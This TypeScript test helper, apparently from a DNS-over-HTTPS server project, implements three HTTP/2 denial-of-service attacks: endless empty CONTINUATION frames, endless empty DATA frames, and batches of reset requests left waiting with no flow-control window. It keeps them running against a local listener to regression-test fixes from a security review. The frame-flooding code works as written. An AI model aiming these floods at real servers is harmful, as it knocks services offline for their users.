/**
 * The three HTTP/2 attacks of the security review of 2026-12-04 (issue 24), as a client that
 * keeps them up against a running DoH listener until told to stop, reconnecting whenever the
 * server cuts it off. Used by the integration test (a few seconds each) and by
 * `npm run soak:h2` (ten seconds each, with RSS and UDP latency sampled).
 */
import { readFileSync } from 'node:fs';
import tls from 'node:tls';
import { QType } from '../../core/dns/constants.js';
import { buildQuery } from '../../core/dns/message.js';
import { PREFACE } from '../../lib/http2/protocol.js';
import { block, h2Frame, T, u32 } from './h2-frames.js';

export type AttackName = 'empty-continuation' | 'reset-blocked' | 'empty-data';

export const ATTACKS: Record<AttackName, string> = {
  'empty-continuation': 'HEADERS without END_HEADERS, then empty CONTINUATION frames without end',
  'reset-blocked': 'requests whose answers wait for window (none is ever given), each reset after its answer',
  'empty-data': 'a POST, then empty DATA frames without end',
};

export interface AttackResult {
  connections: number;
  /** Frames and bytes written (more than the server reads: what it never reads waits in buffers). */
  frames: number;
  bytes: number;
  /** Connections the server ended (GOAWAY or close). */
  cutOff: number;
}

const GET_QUERY: [string, string][] = [
  [':method', 'GET'],
  [':scheme', 'https'],
  [':path', `/dns-query?dns=${buildQuery('web.veil.test', QType.A, { id: 0 }).toString('base64url')}`],
  [':authority', 'dns.test'],
];
const POST: [string, string][] = [[':method', 'POST'], [':scheme', 'https'], [':path', '/dns-query'], ['content-type', 'application/dns-message']];

/** A Veil that the attacks aim at: UDP (the other client's probe) and DoH, answering one local name. */
export function attackedCorefile(certs: { chain: string; key: string }, extra = ''): string {
  return `. {
  listen udp://127.0.0.1:0
  listen https://127.0.0.1:0/dns-query {
    cert ${certs.chain}
    key ${certs.key}
  }
  hosts {
    192.0.2.10 web.veil.test
  }${extra}
}
`;
}

/** A process's resident memory, in MB. */
export function rssMegabytes(pid: number): number {
  return Number(/VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))![1]) / 1024;
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Keeps `attack` up against `https://127.0.0.1:port` until `stop()` says so. */
export async function runAttack(attack: AttackName, port: number, ca: string, stop: () => boolean): Promise<AttackResult> {
  const result: AttackResult = { connections: 0, frames: 0, bytes: 0, cutOff: 0 };
  while (!stop()) {
    const socket = tls.connect({ host: '127.0.0.1', port, ca, servername: 'dns.test', ALPNProtocols: ['h2'] });
    socket.on('error', () => {});
    socket.resume(); // read (and drop) whatever the server sends, so that it keeps reading us
    let open = true;
    socket.on('end', () => (open = false)); // the server's FIN: it reads no more
    socket.on('close', () => (open = false));
    const ready = await new Promise<boolean>((resolve) => {
      socket.once('secureConnect', () => resolve(true));
      socket.once('close', () => resolve(false));
    });
    if (!ready) continue;
    result.connections++;
    socket.write(Buffer.concat([PREFACE, h2Frame(T.SETTINGS, 0, 0)]));
    const send = async (bytes: Buffer, frames: number): Promise<void> => {
      result.frames += frames;
      result.bytes += bytes.length;
      if (socket.write(bytes) || !open) return;
      await new Promise<void>((resolve) => {
        const done = (): void => {
          socket.off('drain', done);
          socket.off('end', done);
          socket.off('close', done);
          resolve();
        };
        socket.on('drain', done);
        socket.on('end', done);
        socket.on('close', done);
      });
    };
    if (attack === 'empty-continuation') {
      await send(h2Frame(T.HEADERS, 0, 1, block(GET_QUERY).subarray(0, 4)), 1);
      const burst = Buffer.concat(Array.from({ length: 1000 }, () => h2Frame(T.CONTINUATION, 0, 1)));
      while (open && !stop()) await send(burst, 1000);
    } else if (attack === 'empty-data') {
      await send(h2Frame(T.HEADERS, 0x4, 1, block(POST)), 1);
      const burst = Buffer.concat(Array.from({ length: 1000 }, () => h2Frame(T.DATA, 0, 1)));
      while (open && !stop()) await send(burst, 1000);
    } else {
      // Batches of 90 requests; the previous batch is reset once its answers are out (and, the
      // connection window spent, waiting). No WINDOW_UPDATE is ever sent.
      let id = 1;
      let previous: number[] = [];
      const request = block(GET_QUERY);
      while (open && !stop() && id < 2 ** 31 - 200) {
        const frames = previous.map((s) => h2Frame(T.RST_STREAM, 0, s, u32(8)));
        previous = [];
        for (let i = 0; i < 90; i++, id += 2) {
          frames.push(h2Frame(T.HEADERS, 0x5, id, request));
          previous.push(id);
        }
        await send(Buffer.concat(frames), frames.length);
        await sleep(2);
      }
      // At last some window: before the fix, draining the line of blocked answers (reset ones
      // included, one Array.shift each) froze the whole process.
      if (open) await send(h2Frame(T.WINDOW_UPDATE, 0, 0, u32(1 << 30)), 1);
    }
    if (!open) result.cutOff++;
    socket.destroy();
  }
  return result;
}
